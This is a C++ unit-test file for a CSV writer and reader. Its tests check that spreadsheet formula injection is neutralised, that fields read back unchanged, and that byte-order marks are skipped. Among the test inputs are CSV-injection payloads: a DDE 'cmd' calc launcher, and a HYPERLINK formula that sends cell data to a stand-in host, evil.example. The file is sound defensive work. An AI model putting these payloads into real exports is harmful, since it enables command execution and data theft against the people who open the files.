#include "app/csv.h"

#include <sstream>

#include "gtest/gtest.h"

namespace aidledger::app {
namespace {

// One line per text: what CsvField writes.
TEST(CsvFieldTest, NeutralisesFormulaStartsAndLeavesNumbersAndTextAlone) {
  const std::pair<std::string, std::string> cases[] = {
      {"定西市", "定西市"},
      {"=SUM(1+1)", "'=SUM(1+1)"},
      {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
      {"-abc", "'-abc"},
      {"@SUM(1+1)", "'@SUM(1+1)"},
      {"\tx", "'\tx"},
      {"\rx", "\"'\rx\""},  // quoted too: it holds a CR
      {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
       "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""},
      {"'=x", "''=x"},     // so that reading back gives "'=x" again
      {"'x", "'x"},        // an apostrophe before plain text is left alone
      {"-1234", "-1234"},  // numbers stay numbers
      {"+5", "+5"},
      {"-12.50", "-12.50"},
      {"-12.", "'-12."},
      {"-", "'-"},
      {"a,b", "\"a,b\""},
      {"", ""},
  };
  for (const auto& [text, written] : cases) EXPECT_EQ(CsvField(text), written) << text;
}

TEST(CsvFieldTest, WhatItWritesReadsBackToTheSameText) {
  const std::string texts[] = {"=1+1",  "'=1+1", "''=1+1", "'",   "''",  "-5", "-x",   "@",
                               "\t\t=", "a\nb",  "x\"y",   "'-5", "=\"", "",   "定西市", "'abc"};
  std::string csv;
  for (const std::string& text : texts) csv += CsvField(text) + "\n";
  std::istringstream in(csv);
  CsvReader reader(&in);
  std::vector<std::string> fields;
  for (const std::string& text : texts) {
    if (text.empty()) continue;  // a blank line is skipped by the reader
    absl::StatusOr<bool> more = reader.Next(&fields);
    ASSERT_TRUE(more.ok() && *more) << text;
    ASSERT_EQ(fields.size(), 1u) << text;
    UnneutraliseCsvField(&fields[0]);
    EXPECT_EQ(fields[0], text);
  }
}

// The byte-order mark spreadsheet programs write is read past, before a
// quoted field too, without seeking; a lone 0xEF 0xBB is data.
TEST(CsvReaderTest, ReadsPastAByteOrderMarkAsTheStreamComes) {
  for (const auto& [text, first] : std::vector<std::pair<std::string, std::string>>{
           {"\xEF\xBB\xBFtype,code\n", "type"},
           {"\xEF\xBB\xBF\"type\",code\n", "type"},
           {"type,code\n", "type"},
           {"\xEF\xBBx,code\n", "\xEF\xBBx"}}) {
    std::istringstream in(text);
    CsvReader reader(&in);
    std::vector<std::string> fields;
    absl::StatusOr<bool> more = reader.Next(&fields);
    ASSERT_TRUE(more.ok() && *more) << text;
    ASSERT_EQ(fields.size(), 2u) << text;
    EXPECT_EQ(fields[0], first);
    EXPECT_EQ(fields[1], "code");
  }
}

}  // namespace
}  // namespace aidledger::app
